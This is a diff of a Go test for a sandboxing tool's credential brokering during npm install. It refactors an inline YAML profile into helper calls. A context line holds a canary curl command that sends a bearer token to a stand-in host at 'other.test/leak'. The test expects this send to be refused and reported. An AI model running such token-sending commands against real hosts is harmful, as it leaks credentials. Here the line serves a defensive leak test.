@@ -34,52 +34,12 @@ curl -sS -m 10 -o /dev/null -H "Authorization: Bearer $S" http://other.test/leak
 curl -sS -m 60 -o /dev/null https://reg.test/ready 2>/dev/null; echo "ready rc=$?"
 `
 
-const credsProfile = `apiVersion: sysprof.dev/v1
-kind: Profile
-metadata: {name: npm-install, command: [npm, install], runs: 1, incomplete: false}
-syscalls:
-  architectures: [x86_64]
-  allow: [%s]
-  args:
-    - {syscall: mprotect, arg: 2, name: prot, mask: PROT_EXEC, values: [PROT_EXEC, PROT_NONE]}
-filesystem:
-  read:
-    - {path: /etc}
-    - {path: /usr}
-    - {path: /proc}
-    - {path: /dev/urandom}
-    - {path: $WORKDIR}
-  write:
-    - {path: /dev/null}
-    - {path: $WORKDIR}
-  exec:
-    - {path: /usr/bin}
-    - {path: /usr/lib}
-  privateTmp: true
-network:
-  connect:
-    - {endpoint: "reg.test:443", proto: tcp}
-    - {endpoint: "other.test:80", proto: tcp}
-credentials:
-  - {file: $HOME/.npmrc, key: "//reg.test/:_authToken", hosts: [reg.test], how: bearer}
-`
-
 // npm install from a token-protected registry (TLS, a test CA the host trusts) with the
 // token brokered: the client succeeds, the canary inside finds no trace of the real token,
 // the stand-in sent to a second allowed host is refused and reported critical, and every use
 // is logged. As root and as an ordinary user.
 func TestCredentialsNpmBrokered(t *testing.T) {
-	testutil.RequireRoot(t)
-	testutil.RequireTool(t, "npm")
-	testutil.RequireTool(t, "curl")
-	testutil.RequireTool(t, "ip")
-	bin, err := sysprofBinary()
-	if err != nil {
-		t.Fatal(err)
-	}
-	if err := inOwnNetns(func() error { return credsInNetns(bin) }); err != nil {
-		testutil.RequireNoErr(t, "credentials run", err)
-	}
+	brokeredRun(t, "credentials run", credsInNetns, "npm", "curl")
 }
 
 func credsInNetns(bin string) error {
@@ -122,7 +82,9 @@ func credsInNetns(bin string) error {
 		return err
 	}
 	os.WriteFile(filepath.Join(work, "package.json"), []byte(`{"name":"app","version":"1.0.0","dependencies":{"sysprof-probe":"1.0.0"}}`), 0o644)
-	os.WriteFile(filepath.Join(work, "prof.yaml"), []byte(fmt.Sprintf(credsProfile, allSyscalls())), 0o644)
+	os.WriteFile(filepath.Join(work, "prof.yaml"), []byte(brokerProfile("{name: npm-install, command: [npm, install], runs: 1, incomplete: false}",
+		"  args:\n    - {syscall: mprotect, arg: 2, name: prot, mask: PROT_EXEC, values: [PROT_EXEC, PROT_NONE]}\n",
+		[]string{"reg.test:443", "other.test:80"}, []string{`{file: $HOME/.npmrc, key: "//reg.test/:_authToken", hosts: [reg.test], how: bearer}`})), 0o644)
 
 	var errs []string
 	for _, nobody := range []bool{false, true} {
